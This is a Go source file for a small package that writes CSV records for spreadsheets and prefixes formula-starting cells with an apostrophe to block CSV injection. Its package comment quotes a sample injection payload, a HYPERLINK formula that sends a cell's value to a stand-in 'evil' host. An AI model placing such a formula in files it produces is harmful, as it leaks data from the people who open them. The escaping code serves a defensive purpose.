// Package csvout writes CSV files meant to be opened in a spreadsheet: RFC
// 4180 records in which no cell can run as a formula.
//
// A staff name or number comes from HR data that anyone may have typed;
// a cell such as =HYPERLINK("http://evil/?"&A1) or @SUM(...) would be run
// by Excel or LibreOffice when HR opens the file. Following OWASP's advice
// on CSV injection, a cell starting with = + - @ tab or carriage return is
// written with a leading apostrophe, which spreadsheets show as text and
// hide. Every CSV the project writes goes through this package.
package csvout

import (
	"encoding/csv"
	"io"
)

// Writer writes escaped CSV records.
type Writer struct {
	w   *csv.Writer
	buf []string
}

// NewWriter returns a Writer on w.
func NewWriter(w io.Writer) *Writer { return &Writer{w: csv.NewWriter(w)} }

// Write writes one record, escaping each cell with Cell. The record
// passed in is not changed.
func (w *Writer) Write(record []string) error {
	w.buf = w.buf[:0]
	for _, s := range record {
		w.buf = append(w.buf, Cell(s))
	}
	return w.w.Write(w.buf)
}

// Flush writes any buffered data and returns the first error of any Write
// or of the flush itself.
func (w *Writer) Flush() error {
	w.w.Flush()
	return w.w.Error()
}

// Cell returns s as a spreadsheet will show it as text: with a leading
// apostrophe if it starts with a character that begins a formula.
func Cell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}
